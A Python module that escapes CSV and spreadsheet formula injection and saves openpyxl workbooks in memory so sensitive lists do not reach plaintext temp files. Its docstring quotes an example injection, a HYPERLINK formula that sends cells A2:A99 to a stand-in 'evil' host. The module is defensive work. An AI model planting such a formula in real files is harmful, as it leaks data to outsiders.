"""What the app writes into spreadsheet cells, and saving formatted workbooks without plaintext temp files.

Every .xlsx and CSV the app writes goes through `cell_value` (xlsx) or
`csv_field` (CSV). Names of enterprises, addresses and import errors come
from people and files we do not control: a target named
`=HYPERLINK("http://evil/?"&A2:A99,"点击")` must never become a live
formula in the sealed list, where one click would send the list away
(Art 12). So text is always written as text — an inline string
(`t="inlineStr"`) or openpyxl's data_type "s", never "f" — and CSV fields
that a spreadsheet would read as a formula (leading = + - @, tab or CR, as
OWASP's CSV-injection guidance lists them) get a leading apostrophe, which
Excel and WPS show as plain text.

`workbook_bytes` saves a formatted openpyxl workbook in memory:
`Workbook.save` hands every sheet to openpyxl's WorksheetWriter, which
writes the sheet's XML to a NamedTemporaryFile in the system temp
directory before zipping it. For the sealed list that file holds the
drawn units in clear text until it is removed — and for ever if the
process dies in between. Sheets with merged cells, page headers and print
titles need openpyxl (xlsxstream writes plain tables only), so this writer
keeps openpyxl's output but points each sheet at an in-memory buffer.

It relies on openpyxl's ExcelWriter and WorksheetWriter (pinned 3.1.x in
requirements.txt); tests/ceremony/test_need_to_know.py fails if the
sealed list's export ever stages a sheet in a temporary file again.
"""
from __future__ import annotations

import re
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from typing import Any, Iterable
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import Workbook
from openpyxl.drawing.spreadsheet_drawing import SpreadsheetDrawing
from openpyxl.worksheet._writer import WorksheetWriter
from openpyxl.writer.excel import ExcelWriter

# OWASP "CSV Injection": a field starting with one of these is a formula to
# Excel, WPS or LibreOffice when the file is opened.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 forbids these; one stray character from a pasted address would
# make Excel refuse the whole file (and openpyxl refuse to write it).
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def cell_value(value: Any) -> Any:
    """A value as a spreadsheet cell may hold it: None, a number, date or
    boolean unchanged; anything else as str without XML-illegal characters.

    Writers put the str in a text cell (never a formula cell): that, not the
    content, is what keeps `=1+1` inert in an .xlsx.
    """
    if value is None or isinstance(value, (bool, int, float, Decimal, datetime, date)):
        return value
    return _XML_ILLEGAL.sub("", str(value))


def csv_field(value: Any) -> str:
    """A value as one CSV field, neutralised so no spreadsheet runs it as a formula."""
    if value is None:
        return ""
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    if isinstance(value, (bool, int, float, Decimal)):
        return str(value)  # a number such as -1 is data, not a formula
    text = _XML_ILLEGAL.sub("", str(value))
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def append_row(ws, values: Iterable[Any]) -> None:
    """`ws.append` for a normal (not write-only) openpyxl sheet, every str cell forced to text."""
    row = [cell_value(v) for v in values]
    ws.append(row)
    for column, value in enumerate(row, 1):
        if isinstance(value, str):
            # openpyxl makes a str that starts with "=" a formula cell.
            ws.cell(row=ws.max_row, column=column).data_type = "s"


class _InMemoryExcelWriter(ExcelWriter):
    def write_worksheet(self, ws):
        ws._drawing = SpreadsheetDrawing()
        ws._drawing.charts = ws._charts
        ws._drawing.images = ws._images
        writer = WorksheetWriter(ws, out=BytesIO())
        writer.write()
        ws._rels = writer._rels
        self._archive.writestr(ws.path[1:], writer.read())
        self.manifest.append(ws)


def workbook_bytes(wb: Workbook) -> bytes:
    """The workbook as .xlsx bytes, built entirely in memory."""
    if wb.write_only:
        raise ValueError("write-only workbooks stream their sheets through temporary files")
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED, allowZip64=True) as archive:
        _InMemoryExcelWriter(wb, archive).save()
    return out.getvalue()
